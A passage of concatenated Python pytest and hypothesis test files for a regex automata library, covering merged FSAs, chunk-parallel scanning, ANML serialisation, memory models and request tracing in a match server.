        assert workers, "shard workers recorded no spans"
        for worker in workers:
            assert by_id[worker.parent_id].name == "serve.shard_scan"

        if mode == "process":
            # the tree really crosses a process boundary
            pids = {s.process_id for s in spans}
            assert len(pids) >= 2, f"expected >=2 process ids, got {pids}"
    # server stop released the tracer it owned
    assert obs.get_tracer() is None


def test_two_traced_requests_stay_separate_trees(artifact):
    config = ServeConfig(shards=1, trace_requests=True)
    with ServerThread(artifact, config) as address:
        tracer = obs.get_tracer()
        with MatchClient.connect(address) as client:
            first = client.match(PAYLOAD, trace=True)
            second = client.match(b"needle in " + PAYLOAD, trace=True)
        assert first.trace_id != second.trace_id
        _settled(tracer)
        for result in (first, second):
            spans, roots = _trace_tree(tracer, result.trace_id)
            assert [r.name for r in roots] == ["client.match"]
            assert {"serve.request", "serve.worker_scan"} <= {s.name for s in spans}


def test_untraced_request_ships_nothing(artifact):
    """Without ship_spans the response carries no span rows even when the
    server is tracing internally."""
    config = ServeConfig(shards=1, trace_requests=True)
    with ServerThread(artifact, config) as address:
        with MatchClient.connect(address) as client:
            result = client.match(PAYLOAD)
        assert result.ok
        assert result.spans == []
        assert "spans" not in result.raw


def test_client_trace_without_server_tracer(artifact):
    """ship_spans against a server with tracing off degrades gracefully:
    the request succeeds, just without server-side rows."""
    config = ServeConfig(shards=1, trace_requests=False, metrics=False)
    with ServerThread(artifact, config) as address:
        with MatchClient.connect(address) as client:
            result = client.match(PAYLOAD, trace=True)
        assert result.ok
        assert result.trace_id  # minted client-side regardless
        assert result.spans == []


def test_stats_op_exposes_latency_percentiles(artifact):
    config = ServeConfig(shards=2)  # metrics default on
    with ServerThread(artifact, config) as address:
        with MatchClient.connect(address) as client:
            for _ in range(5):
                assert client.match(PAYLOAD).ok
            response = client.stats_full(prometheus=True)
    latency = response["latency_ms"]
    for phase in ("serve_queue_wait_seconds", "serve_scan_seconds"):
        assert phase in latency, sorted(latency)
        for key in ("count", "mean", "p50", "p90", "p95", "p99"):
            assert key in latency[phase]
        assert latency[phase]["count"] >= 5
        assert latency[phase]["p50"] <= latency[phase]["p99"]
    assert "serve_requests_total" in response["metrics"]
    assert "# TYPE" in response["prometheus"]


def test_iter_tree_renders_adopted_spans(artifact):
    """The CLI's tree printer walks a stitched trace without error and
    indents worker spans below the shard scan."""
    config = ServeConfig(shards=1, trace_requests=True)
    with ServerThread(artifact, config) as address:
        tracer = obs.get_tracer()
        with MatchClient.connect(address) as client:
            client.match(PAYLOAD, trace=True)
        rows = [(depth, span.name) for depth, span in iter_tree(tracer)]
    depth_of = {name: depth for depth, name in rows}
    assert depth_of["client.match"] == 0
    assert depth_of["serve.request"] == 1
    assert depth_of["serve.worker_scan"] > depth_of["serve.shard_scan"]
    assert all(isinstance(depth, int) for depth, _ in rows)


def test_span_rows_survive_json_round_trip(artifact):
    """Shipped rows are plain JSON data (the wire already proved it) and
    re-adoptable into a fresh tracer — the offline-analysis path."""
    config = ServeConfig(shards=1, trace_requests=True)
    with ServerThread(artifact, config) as address:
        with MatchClient.connect(address) as client:
            result = client.match(PAYLOAD, trace=True)
    fresh = obs.Tracer("offline")
    adopted = fresh.adopt_spans(result.spans)
    assert len(adopted) == len(result.spans)
    assert all(isinstance(s, Span) for s in adopted)
    fresh.validate()
    assert {s.name for s in adopted} >= {"serve.request", "serve.worker_scan"}
