"""Tests for the counting-MFSA ANML dialect."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.anml.reader import AnmlFormatError
from repro.counting import build_counting_fsa, merge_counting_fsas
from repro.counting.anml import read_counting_anml, write_counting_anml
from repro.counting.mfsa_engine import CountingMfsaEngine

from conftest import ere_patterns, input_strings


def build(patterns, min_count_bound=1):
    items = [(i, build_counting_fsa(p, min_count_bound=min_count_bound))
             for i, p in enumerate(patterns)]
    return merge_counting_fsas(items)


def cmfsa_equal(a, b):
    return (
        a.num_states == b.num_states
        and a.initials == b.initials
        and a.finals == b.finals
        and a.patterns == b.patterns
        and {(t.src, t.dst, t.label.mask, t.bel) for t in a.plain}
        == {(t.src, t.dst, t.label.mask, t.bel) for t in b.plain}
        and {(t.src, t.dst, t.label.mask, t.low, t.high, t.bel) for t in a.counting}
        == {(t.src, t.dst, t.label.mask, t.low, t.high, t.bel) for t in b.counting}
    )


class TestRoundTrip:
    def test_counting_arcs_survive(self):
        z = build(["x[0-9]{5}a", "x[0-9]{5}b"])
        recovered = read_counting_anml(write_counting_anml(z))
        assert cmfsa_equal(z, recovered)
        assert len(recovered.counting) == 1
        assert recovered.counting[0].bel == frozenset({0, 1})

    def test_unbounded_high_omits_attribute(self):
        z = build(["a{9,}b"])
        text = write_counting_anml(z)
        assert "low=" in text and "high=" not in text
        recovered = read_counting_anml(text)
        assert recovered.counting[0].high is None

    def test_engine_equivalence_through_xml(self):
        patterns = ["k[ab]{3}x", "k[ab]{3}y"]
        z = build(patterns)
        recovered = read_counting_anml(write_counting_anml(z))
        stream = "kabax kbbby"
        assert CountingMfsaEngine(recovered).run(stream).matches == \
            CountingMfsaEngine(z).run(stream).matches

    def test_network_id(self):
        assert 'id="demo"' in write_counting_anml(build(["a{5}"]), network_id="demo")


class TestErrors:
    def test_wrong_root(self):
        with pytest.raises(AnmlFormatError):
            read_counting_anml("<automata-network/>")

    def test_malformed(self):
        with pytest.raises(AnmlFormatError):
            read_counting_anml("<oops")

    def test_missing_rules(self):
        with pytest.raises(AnmlFormatError):
            read_counting_anml('<counting-automata-network states="1"/>')

    def test_missing_attribute(self):
        bad = ('<counting-automata-network states="2"><rules>'
               '<rule id="0" initial-state="0" final-states="1"/></rules>'
               '<counting-transition from-state="0" to-state="1" symbol-set="a"'
               ' belongs-to="0"/></counting-automata-network>')
        with pytest.raises(AnmlFormatError):
            read_counting_anml(bad)  # missing low


@given(st.lists(ere_patterns(), min_size=1, max_size=3), input_strings())
@settings(max_examples=50, deadline=None)
def test_roundtrip_property(patterns, text):
    z = build(patterns, min_count_bound=2)
    recovered = read_counting_anml(write_counting_anml(z))
    assert cmfsa_equal(z, recovered)
    assert CountingMfsaEngine(recovered).run(text).matches == \
        CountingMfsaEngine(z).run(text).matches
