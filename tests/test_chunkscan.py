"""Tests for chunk-parallel scanning (overlap and SFA-mapping strategies)."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.engine.chunkscan import (
    chunk_scan,
    mapping_chunk_scan,
    mfsa_max_width,
    overlap_chunk_scan,
    resolve_strategy,
    ruleset_max_width,
)
from repro.engine.imfant import IMfantEngine
from repro.guard.errors import UsageError
from repro.mfsa.merge import merge_fsas

from conftest import compile_ruleset_fsas, ere_patterns


def build(patterns):
    return merge_fsas(compile_ruleset_fsas(patterns))


class TestRulesetMaxWidth:
    def test_bounded(self):
        assert ruleset_max_width(["abc", "a{2,5}", "[xy]z"]) == 5

    def test_unbounded(self):
        assert ruleset_max_width(["abc", "a+b"]) is None

    def test_empty(self):
        assert ruleset_max_width([]) == 0


class TestMfsaMaxWidth:
    def test_bounded_matches_source_bound(self):
        patterns = ["abc", "a{2,5}", "[xy]z"]
        width = mfsa_max_width(build(patterns))
        assert width is not None
        assert width >= ruleset_max_width(patterns)

    def test_unbounded_is_none(self):
        assert mfsa_max_width(build(["abc", "a+b"])) is None
        assert mfsa_max_width(build(["x.*y"])) is None

    def test_strategy_resolution(self):
        assert resolve_strategy(build(["abc"])) == "overlap"
        assert resolve_strategy(build(["a.*b"])) == "sfa"
        assert resolve_strategy(build(["abc"]), "sfa") == "sfa"
        with pytest.raises(UsageError):
            resolve_strategy(build(["abc"]), "bogus")


class TestChunkScan:
    def test_boundary_straddling_match(self):
        patterns = ["needle"]
        mfsa = build(patterns)
        stream = b"x" * 4094 + b"needle" + b"y" * 100  # straddles 4096
        got = chunk_scan(mfsa, stream, chunk_size=4096)
        assert got == {(0, 4100)}

    def test_matches_equal_single_shot(self):
        patterns = ["ab", "a[bc]d", "xyz"]
        mfsa = build(patterns)
        stream = (b"abxyzabcd" * 300)
        expected = IMfantEngine(mfsa).run(stream).matches
        got = chunk_scan(mfsa, stream, chunk_size=256, num_threads=4)
        assert got == expected

    def test_unbounded_scans_data_parallel(self):
        # the case the old code served sequentially: zero overlap bytes,
        # mapping composition, byte-identical matches
        patterns = ["a.*b"]
        mfsa = build(patterns)
        stream = b"a" + b"x" * 500 + b"b"
        assert resolve_strategy(mfsa) == "sfa"
        got = chunk_scan(mfsa, stream, chunk_size=64)
        assert got == IMfantEngine(mfsa).run(stream).matches

    def test_small_stream_single_shot(self):
        mfsa = build(["ab"])
        assert chunk_scan(mfsa, b"ab", chunk_size=4096) == {(0, 2)}

    def test_chunk_size_must_exceed_overlap(self):
        mfsa = build(["abcd"])
        with pytest.raises(ValueError):
            chunk_scan(mfsa, b"x" * 10_000, strategy="overlap", overlap=64,
                       chunk_size=64)

    def test_empty_matching_rule_full_range(self):
        patterns = ["a*", "zq"]
        mfsa = build(patterns)
        stream = b"b" * 600
        got = chunk_scan(mfsa, stream, chunk_size=256)
        assert got == IMfantEngine(mfsa).run(stream).matches

    def test_forced_sfa_on_bounded_ruleset(self):
        patterns = ["ab", "a[bc]d", "xyz"]
        mfsa = build(patterns)
        stream = (b"abxyzabcd" * 300)
        expected = IMfantEngine(mfsa).run(stream).matches
        assert chunk_scan(mfsa, stream, strategy="sfa", chunk_size=256) == expected

    def test_overlap_rejects_unbounded(self):
        mfsa = build(["a.*b"])
        with pytest.raises(UsageError):
            overlap_chunk_scan(mfsa, b"ab" * 1000, chunk_size=128)


class TestMappingChunkScan:
    def test_zero_overlap_boundary_match(self):
        mfsa = build(["needle"])
        stream = b"x" * 61 + b"needle" + b"y" * 61  # straddles every cut
        for chunk_size in (32, 64, 67):
            got = mapping_chunk_scan(mfsa, stream, chunk_size=chunk_size)
            assert got == {(0, 67)}

    def test_unbounded_mixed_ruleset(self):
        patterns = ["a.*b", "ab", "[ab]+c"]
        mfsa = build(patterns)
        stream = (b"aabcabxb" * 217)
        expected = IMfantEngine(mfsa).run(stream).matches
        got = mapping_chunk_scan(mfsa, stream, chunk_size=100, num_threads=4)
        assert got == expected

    def test_empty_payload(self):
        mfsa = build(["a*", "bc"])
        assert mapping_chunk_scan(mfsa, b"") == IMfantEngine(mfsa).run(b"").matches


@given(st.data())
@settings(max_examples=40, deadline=None)
def test_chunkscan_equivalence_property(data):
    patterns = data.draw(st.lists(ere_patterns(max_depth=2), min_size=1, max_size=3))
    repeats = data.draw(st.integers(min_value=10, max_value=60))
    base = data.draw(st.text(alphabet="abcd", min_size=1, max_size=12))
    stream = (base * repeats).encode()
    chunk_size = data.draw(st.sampled_from([64, 100, 257]))

    mfsa = build(patterns)
    width = mfsa_max_width(mfsa)
    if width is not None and chunk_size <= width:
        chunk_size = width + 16
    expected = IMfantEngine(mfsa).run(stream).matches
    # auto strategy (overlap for bounded, sfa for unbounded)
    assert chunk_scan(mfsa, stream, chunk_size=chunk_size, num_threads=3) == expected
    # forced sfa must agree regardless of boundedness
    assert chunk_scan(mfsa, stream, strategy="sfa", chunk_size=chunk_size,
                      num_threads=3) == expected
