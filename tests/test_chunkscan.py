"""Tests for chunk-parallel scanning."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.engine.chunkscan import chunk_scan, ruleset_max_width
from repro.engine.imfant import IMfantEngine
from repro.mfsa.merge import merge_fsas

from conftest import compile_ruleset_fsas, ere_patterns


def build(patterns):
    return merge_fsas(compile_ruleset_fsas(patterns))


class TestRulesetMaxWidth:
    def test_bounded(self):
        assert ruleset_max_width(["abc", "a{2,5}", "[xy]z"]) == 5

    def test_unbounded(self):
        assert ruleset_max_width(["abc", "a+b"]) is None

    def test_empty(self):
        assert ruleset_max_width([]) == 0


class TestChunkScan:
    def test_boundary_straddling_match(self):
        patterns = ["needle"]
        mfsa = build(patterns)
        stream = b"x" * 4094 + b"needle" + b"y" * 100  # straddles 4096
        got = chunk_scan(mfsa, stream, overlap=6, chunk_size=4096)
        assert got == {(0, 4100)}

    def test_matches_equal_single_shot(self):
        patterns = ["ab", "a[bc]d", "xyz"]
        mfsa = build(patterns)
        stream = (b"abxyzabcd" * 300)
        expected = IMfantEngine(mfsa).run(stream).matches
        got = chunk_scan(mfsa, stream, overlap=ruleset_max_width(patterns),
                         chunk_size=256, num_threads=4)
        assert got == expected

    def test_unbounded_falls_back_sequential(self):
        patterns = ["a.*b"]
        mfsa = build(patterns)
        stream = b"a" + b"x" * 500 + b"b"
        got = chunk_scan(mfsa, stream, overlap=ruleset_max_width(patterns),
                         chunk_size=64)
        assert got == IMfantEngine(mfsa).run(stream).matches

    def test_small_stream_single_shot(self):
        mfsa = build(["ab"])
        assert chunk_scan(mfsa, b"ab", overlap=2, chunk_size=4096) == {(0, 2)}

    def test_chunk_size_must_exceed_overlap(self):
        mfsa = build(["abcd"])
        with pytest.raises(ValueError):
            chunk_scan(mfsa, b"x" * 10_000, overlap=64, chunk_size=64)

    def test_empty_matching_rule_full_range(self):
        patterns = ["a*", "zq"]
        mfsa = build(patterns)
        stream = b"b" * 600
        got = chunk_scan(mfsa, stream, overlap=2, chunk_size=256)
        assert got == IMfantEngine(mfsa).run(stream).matches


@given(st.data())
@settings(max_examples=40, deadline=None)
def test_chunkscan_equivalence_property(data):
    patterns = data.draw(st.lists(ere_patterns(max_depth=2), min_size=1, max_size=3))
    repeats = data.draw(st.integers(min_value=10, max_value=60))
    base = data.draw(st.text(alphabet="abcd", min_size=1, max_size=12))
    stream = (base * repeats).encode()
    chunk_size = data.draw(st.sampled_from([64, 100, 257]))

    mfsa = build(patterns)
    overlap = ruleset_max_width(patterns)
    if overlap is not None and chunk_size <= overlap:
        chunk_size = overlap + 16
    got = chunk_scan(mfsa, stream, overlap=overlap, chunk_size=chunk_size,
                     num_threads=3)
    assert got == IMfantEngine(mfsa).run(stream).matches
