"""Env-scalable soak tests: the widest invariants at configurable depth.

By default these add a light extra pass over the heaviest cross-system
properties; set ``REPRO_SOAK_EXAMPLES=2000`` (or higher) to turn them
into a long-running confidence sweep before a release.

Determinism: the conftest seeds :mod:`random` before every test and
``REPRO_TEST_DETERMINISTIC=1`` loads a derandomized hypothesis profile,
so a soak failure replays exactly (docs/testing.md)."""

import re

from hypothesis import given, settings
from hypothesis import strategies as st

from repro.automata.optimize import OptimizeOptions, compile_re_to_fsa
from repro.automata.simulate import accepts, find_match_ends
from repro.engine.imfant import IMfantEngine
from repro.mfsa.merge import merge_fsas
from repro.mfsa.model import validate_projections

from conftest import SOAK_EXAMPLES, compile_ruleset_fsas, ere_patterns, input_strings

WIDE_ALPHABET = "abcdwxyz09"


@given(ere_patterns(alphabet=WIDE_ALPHABET, max_depth=4),
       st.text(alphabet=WIDE_ALPHABET, max_size=40))
@settings(max_examples=SOAK_EXAMPLES, deadline=None)
def test_soak_construction_vs_re(pattern, subject):
    """Deeper patterns, wider alphabet, longer subjects than the CI runs."""
    for options in (OptimizeOptions(), OptimizeOptions(construction="glushkov")):
        fsa = compile_re_to_fsa(pattern, options)
        assert accepts(fsa, subject) == bool(
            re.compile(f"(?:{pattern})\\Z").match(subject)
        )


@given(st.data())
@settings(max_examples=SOAK_EXAMPLES, deadline=None)
def test_soak_merge_and_execute(data):
    """Bigger rulesets than the CI property tests use."""
    patterns = data.draw(st.lists(ere_patterns(max_depth=3), min_size=3, max_size=8))
    subject = data.draw(input_strings(max_size=40))
    fsas = compile_ruleset_fsas(patterns)
    mfsa = merge_fsas(fsas)
    validate_projections(mfsa, dict(fsas))
    expected = set()
    for rule, fsa in fsas:
        expected |= {(rule, e) for e in find_match_ends(fsa, subject)}
    for backend in ("python", "numpy"):
        assert IMfantEngine(mfsa, backend=backend).run(subject).matches == expected
