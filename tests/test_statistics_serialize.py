"""Tests for MFSA sharing statistics and JSON serialisation."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.mfsa.merge import merge_fsas
from repro.mfsa.serialize import MfsaJsonError, dumps, loads, mfsa_to_dict
from repro.mfsa.statistics import describe_profile, sharing_profile

from conftest import compile_ruleset_fsas, ere_patterns, mfsa_equal


def build(patterns):
    return merge_fsas(compile_ruleset_fsas(patterns))


class TestSharingProfile:
    def test_histogram_partitions_transitions(self):
        mfsa = build(["abc", "abd", "xyz"])
        profile = sharing_profile(mfsa)
        assert sum(profile.histogram.values()) == mfsa.num_transitions
        assert profile.shared_transitions + profile.exclusive_transitions == \
            mfsa.num_transitions

    def test_identical_rules_fully_shared(self):
        mfsa = build(["abc", "abc"[:3]])
        profile = sharing_profile(mfsa)
        assert profile.exclusive_transitions == 0
        assert profile.max_sharing == 2
        assert profile.rule_sharing_ratio == {0: 1.0, 1: 1.0}

    def test_disjoint_rules_unshared(self):
        profile = sharing_profile(build(["abc", "xyz"]))
        assert profile.shared_transitions == 0
        assert profile.pair_overlap == {}
        assert all(ratio == 0.0 for ratio in profile.rule_sharing_ratio.values())

    def test_pair_overlap_counts(self):
        mfsa = build(["abq", "abr", "abs"])
        profile = sharing_profile(mfsa)
        # the shared ab prefix: each pair overlaps on those arcs
        assert profile.pair_overlap[(0, 1)] >= 2
        assert profile.pair_overlap[(0, 2)] >= 2
        assert profile.top_pairs(1)[0][1] >= 2

    def test_describe_renders(self):
        text = describe_profile(sharing_profile(build(["abc", "abd"])))
        assert "sharing histogram" in text
        assert "rules 0 & 1" in text


class TestJsonSerialize:
    def test_roundtrip(self):
        mfsa = build(["a[bc]d", "abe", "x{2,3}"])
        assert mfsa_equal(mfsa, loads(dumps(mfsa)))

    def test_roundtrip_with_indent(self):
        mfsa = build(["ab"])
        text = dumps(mfsa, indent=2)
        assert "\n" in text
        assert mfsa_equal(mfsa, loads(text))

    def test_patterns_preserved(self):
        mfsa = build(["ab", "cd"])
        recovered = loads(dumps(mfsa))
        assert recovered.patterns == {0: "ab", 1: "cd"}

    def test_format_marker(self):
        data = mfsa_to_dict(build(["a"]))
        assert data["format"] == "repro-mfsa-json"

    @pytest.mark.parametrize("bad", [
        "not json at all {",
        '{"format": "something-else"}',
        '{"format": "repro-mfsa-json", "version": 99}',
        '{"format": "repro-mfsa-json", "version": 1}',  # missing fields
    ])
    def test_rejects_malformed(self, bad):
        with pytest.raises(MfsaJsonError):
            loads(bad)

    def test_rejects_inconsistent_document(self):
        data = mfsa_to_dict(build(["ab"]))
        data["transitions"][0][0] = 99  # out-of-range state
        import json

        with pytest.raises(Exception):
            loads(json.dumps(data))


@given(st.lists(ere_patterns(), min_size=1, max_size=4))
@settings(max_examples=60, deadline=None)
def test_json_roundtrip_property(patterns):
    mfsa = build(patterns)
    assert mfsa_equal(mfsa, loads(dumps(mfsa)))
