"""Unit tests for the COO adjacency view (paper Fig. 2 representation)."""

import pytest

from repro.automata.coo import CooMatrix, from_coo, to_coo
from repro.automata.fsa import EPSILON, Fsa
from repro.automata.optimize import compile_re_to_fsa
from repro.labels import CharClass


class TestToCoo:
    def test_vectors_parallel(self):
        fsa = compile_re_to_fsa("a(b|c)d")
        coo = to_coo(fsa)
        assert len(coo.row) == len(coo.col) == len(coo.idx) == fsa.num_transitions

    def test_sorted_row_major(self):
        coo = to_coo(compile_re_to_fsa("(ab|cd)e"))
        keys = list(zip(coo.row, coo.col, (c.mask for c in coo.idx)))
        assert keys == sorted(keys)

    def test_unsorted_preserves_order(self):
        fsa = Fsa()
        s0, s1 = fsa.add_state(), fsa.add_state()
        fsa.add_transition(s1, s0, CharClass.single("b"))
        fsa.add_transition(s0, s1, CharClass.single("a"))
        fsa.finals = {s1}
        coo = to_coo(fsa, sort=False)
        assert coo.row == [1, 0]

    def test_rejects_epsilon(self):
        fsa = Fsa()
        s0, s1 = fsa.add_state(), fsa.add_state()
        fsa.add_transition(s0, s1, EPSILON)
        with pytest.raises(ValueError):
            to_coo(fsa)

    def test_iteration_yields_transitions(self):
        fsa = compile_re_to_fsa("ab")
        arcs = list(to_coo(fsa))
        assert len(arcs) == 2
        assert arcs[0].src == fsa.initial


class TestRoundTrip:
    def test_from_coo_rebuilds(self):
        fsa = compile_re_to_fsa("a[bc]+d")
        coo = to_coo(fsa)
        rebuilt = from_coo(coo, fsa.num_states, fsa.initial, fsa.finals)
        assert {(t.src, t.dst, t.label.mask) for t in rebuilt.transitions} == \
               {(t.src, t.dst, t.label.mask) for t in fsa.transitions}
        assert rebuilt.finals == fsa.finals
