"""Tests for the memory-footprint model."""

from repro.automata.optimize import compile_re_to_fsa
from repro.dfa import build_stride2, compress_default_transitions, determinize, minimize
from repro.mfsa.merge import merge_fsas
from repro.reporting.memory import (
    d2fa_memory,
    dfa_memory,
    footprint_summary,
    fsa_memory,
    mfsa_memory,
    ruleset_memory,
    stride2_memory,
)

from conftest import compile_ruleset_fsas


class TestFsaMemory:
    def test_single_char_transitions(self):
        fsa = compile_re_to_fsa("ab")
        # initial(4) + final(4) + 2 transitions × (4+4+1)
        assert fsa_memory(fsa) == 4 + 4 + 2 * 9

    def test_cc_transition_costs_bitmap(self):
        plain = fsa_memory(compile_re_to_fsa("ab"))
        with_cc = fsa_memory(compile_re_to_fsa("a[bc]"))
        assert with_cc == plain + 31  # bitmap (32) replaces char (1)

    def test_ruleset_is_sum(self):
        fsas = [compile_re_to_fsa(p) for p in ("ab", "cd")]
        assert ruleset_memory(fsas) == sum(fsa_memory(f) for f in fsas)


class TestMfsaMemory:
    def test_merging_shrinks_footprint(self):
        patterns = ["abcdef", "abcdeg", "abcdex"]
        fsas = compile_ruleset_fsas(patterns)
        mfsa = merge_fsas(fsas)
        assert mfsa_memory(mfsa) < ruleset_memory([f for _, f in fsas])

    def test_belonging_bitmap_grows_with_rules(self):
        few = merge_fsas(compile_ruleset_fsas(["ab", "ac"]))
        # same structure, but 9 rules need a 2-byte belonging bitmap
        many_patterns = ["ab", "ac"] + [f"x{i}" for i in range(7)]
        many = merge_fsas(compile_ruleset_fsas(many_patterns))
        per_arc_few = 2 * 4 + 1 + 1
        assert any(t for t in few.transitions)
        assert mfsa_memory(few) == sum(
            per_arc_few for _ in few.transitions
        ) + sum(4 + 4 * len(few.finals[r]) for r in few.initials)


class TestDfaFamily:
    def test_dfa_table_size(self):
        dfa = determinize(compile_ruleset_fsas(["ab"]))
        assert dfa_memory(dfa) == dfa.num_states * (256 * 4 + 1)

    def test_d2fa_smaller_than_dfa(self):
        dfa = minimize(determinize(compile_ruleset_fsas(["abcde", "abcdf"])))
        d2fa = compress_default_transitions(dfa)
        assert d2fa_memory(d2fa) < dfa_memory(dfa)

    def test_stride2_larger_than_dfa_classes(self):
        dfa = minimize(determinize(compile_ruleset_fsas(["ab", "cd"])))
        stride = build_stride2(dfa)
        assert stride2_memory(stride) == stride.table_entries * 4 + 256

    def test_footprint_summary_keys(self):
        # similar rules, so merging actually pays for the belonging bitmaps
        fsas = compile_ruleset_fsas(["abcde", "abcdf", "abcdg"])
        mfsa = merge_fsas(fsas)
        dfa = determinize(fsas)
        d2fa = compress_default_transitions(minimize(dfa))
        summary = footprint_summary([f for _, f in fsas], mfsa, dfa, d2fa)
        assert set(summary) == {"fsa_set", "mfsa", "dfa", "d2fa"}
        assert summary["mfsa"] < summary["fsa_set"]
        assert summary["dfa"] > summary["mfsa"]

    def test_disjoint_rules_pay_belonging_overhead(self):
        """With nothing shared, the MFSA costs slightly more than the FSA
        set — the honest trade-off the belonging bitmaps introduce."""
        fsas = compile_ruleset_fsas(["ab", "cd"])
        mfsa = merge_fsas(fsas)
        assert mfsa_memory(mfsa) >= ruleset_memory([f for _, f in fsas])
