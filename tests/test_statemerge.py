"""Unit tests for suffix state merging."""

import re

import pytest
from hypothesis import given, settings

from repro.automata.epsilon import remove_epsilon
from repro.automata.fsa import EPSILON, Fsa
from repro.automata.simulate import accepts, find_match_ends
from repro.automata.statemerge import merge_suffix_states
from repro.automata.thompson import thompson_construct
from repro.frontend.parser import parse
from repro.labels import CharClass

from conftest import ere_patterns, input_strings


def build(pattern: str) -> Fsa:
    return remove_epsilon(thompson_construct(parse(pattern)))


class TestMerging:
    def test_branch_tails_collapse(self):
        """(k|h)bc: the two post-branch states share the bc tail (Fig. 5b)."""
        merged = merge_suffix_states(build("(k|h)bc"))
        pairs = {}
        for t in merged.transitions:
            pairs.setdefault((t.src, t.dst), []).append(t.label)
        assert any(len(labels) == 2 for labels in pairs.values())

    def test_reduces_states(self):
        fsa = build("(abc|xbc)")
        merged = merge_suffix_states(fsa)
        assert merged.num_states < fsa.num_states

    def test_fixpoint_iterates_upstream(self):
        """abcz | xbcz collapses the whole shared bcz tail, not just the
        last state."""
        merged = merge_suffix_states(build("(abcz|xbcz)"))
        # initial + shared b,c,z tail states + final = 5, plus the two
        # distinct post-a / post-x states merged into one.
        assert merged.num_states == 5

    def test_distinct_tails_not_merged(self):
        fsa = build("(ab|cd)")
        merged = merge_suffix_states(fsa)
        assert accepts(merged, "ab") and accepts(merged, "cd")
        assert not accepts(merged, "ad") and not accepts(merged, "cb")

    def test_finality_respected(self):
        merged = merge_suffix_states(build("a|ab"))
        assert accepts(merged, "a") and accepts(merged, "ab")
        assert not accepts(merged, "b")

    def test_rejects_epsilon(self):
        fsa = Fsa()
        s0, s1 = fsa.add_state(), fsa.add_state()
        fsa.add_transition(s0, s1, EPSILON)
        with pytest.raises(ValueError):
            merge_suffix_states(fsa)

    def test_max_rounds_bounds_iterations(self):
        fsa = build("(abcz|xbcz)")
        once = merge_suffix_states(fsa, max_rounds=1)
        full = merge_suffix_states(fsa)
        assert once.num_states >= full.num_states

    def test_self_loops_kept(self):
        merged = merge_suffix_states(build("ab*c"))
        assert accepts(merged, "ac") and accepts(merged, "abbbc")


@given(ere_patterns(), input_strings())
@settings(max_examples=200, deadline=None)
def test_merging_preserves_streaming_matches(pattern, text):
    fsa = build(pattern)
    merged = merge_suffix_states(fsa)
    assert find_match_ends(fsa, text) == find_match_ends(merged, text)
    assert merged.num_states <= fsa.num_states


@given(ere_patterns(), input_strings())
@settings(max_examples=150, deadline=None)
def test_merged_agrees_with_re(pattern, text):
    merged = merge_suffix_states(build(pattern))
    oracle = re.compile(f"(?:{pattern})\\Z")
    assert accepts(merged, text) == bool(oracle.match(text))
