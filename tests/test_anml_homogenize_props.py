"""Property tests for the ANML homogenisation invariants."""

from hypothesis import given, settings
from hypothesis import strategies as st

from repro.anml.homogenize import homogenize
from repro.mfsa.merge import merge_fsas

from conftest import compile_ruleset_fsas, ere_patterns


@given(st.lists(ere_patterns(), min_size=1, max_size=4))
@settings(max_examples=80, deadline=None)
def test_homogeneity_invariants(patterns):
    """Structural invariants of the STE network, for random MFSAs."""
    mfsa = merge_fsas(compile_ruleset_fsas(patterns))
    network = homogenize(mfsa)

    # 1. One STE per (original state, incoming-label) pair; ids dense.
    keys = {(ste.state, ste.symbol_set.mask) for ste in network.stes}
    assert len(keys) == len(network.stes)
    assert [ste.ste_id for ste in network.stes] == list(range(len(network.stes)))

    # 2. Connections reference existing STEs.
    valid = {ste.ste_id for ste in network.stes}
    for conn in network.connections:
        assert conn.src in valid and conn.dst in valid
        assert conn.bel  # never empty

    # 3. Every MFSA arc is represented: either as connections from each
    #    split of its source, or as a StartArc when the source has no
    #    splits.
    splits_of: dict[int, int] = {}
    for ste in network.stes:
        splits_of[ste.state] = splits_of.get(ste.state, 0) + 1
    dst_key = {(ste.state, ste.symbol_set.mask): ste.ste_id for ste in network.stes}
    conn_set = {(c.src, c.dst) for c in network.connections}
    start_set = {(a.src_state, a.dst) for a in network.start_arcs}
    for t in mfsa.transitions:
        target = dst_key[(t.dst, t.label.mask)]
        if splits_of.get(t.src, 0) == 0:
            assert (t.src, target) in start_set
        else:
            for ste in network.stes:
                if ste.state == t.src:
                    assert (ste.ste_id, target) in conn_set

    # 4. Start marks appear exactly where an arc leaves a rule's initial.
    expected_starts: dict[int, set[int]] = {}
    for t in mfsa.transitions:
        starting = {r for r in t.bel if mfsa.initials[r] == t.src}
        if starting:
            target = dst_key[(t.dst, t.label.mask)]
            expected_starts.setdefault(target, set()).update(starting)
    actual_starts = {ste.ste_id: set(ste.start_for) for ste in network.stes if ste.start_for}
    assert actual_starts == expected_starts

    # 5. Report marks cover exactly the per-rule final states.
    for ste in network.stes:
        expected = {r for r, finals in mfsa.finals.items() if ste.state in finals}
        assert set(ste.report_for) == expected

    # 6. The rule table mirrors the MFSA.
    assert set(network.rules) == set(mfsa.initials)
    for rule, (initial, finals, _) in network.rules.items():
        assert initial == mfsa.initials[rule]
        assert finals == frozenset(mfsa.finals[rule])
