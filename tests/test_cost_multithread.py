"""Tests for the cost model, the machine model and the schedulers."""

import math

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.automata.optimize import compile_re_to_fsa
from repro.engine.cost import CostModel, throughput
from repro.engine.counters import ExecutionStats
from repro.engine.imfant import IMfantEngine
from repro.engine.multithread import (
    MachineModel,
    list_schedule_makespan,
    run_pool,
    simulate_parallel_latency,
)
from repro.mfsa.merge import merge_fsas

from conftest import compile_ruleset_fsas


def stats(chars=100, examined=50, active=20) -> ExecutionStats:
    return ExecutionStats(
        chars_processed=chars, transitions_examined=examined, active_pair_total=active
    )


class TestCostModel:
    def test_linear_combination(self):
        model = CostModel(c_char=1, c_trans=2, c_active=3)
        assert model.run_cost(stats()) == 100 + 2 * 50 + 3 * 20

    def test_total_is_sum(self):
        model = CostModel()
        runs = [stats(), stats(chars=10, examined=0, active=0)]
        assert model.total_cost(runs) == pytest.approx(
            model.run_cost(runs[0]) + model.run_cost(runs[1])
        )

    def test_throughput_formula(self):
        # #RE * Dsize / time (§VI-C)
        assert throughput(300, 1_000_000, 2.0) == 150_000_000

    def test_throughput_requires_positive_time(self):
        with pytest.raises(ValueError):
            throughput(1, 1, 0.0)


class TestExecutionStats:
    def test_merge_accumulates(self):
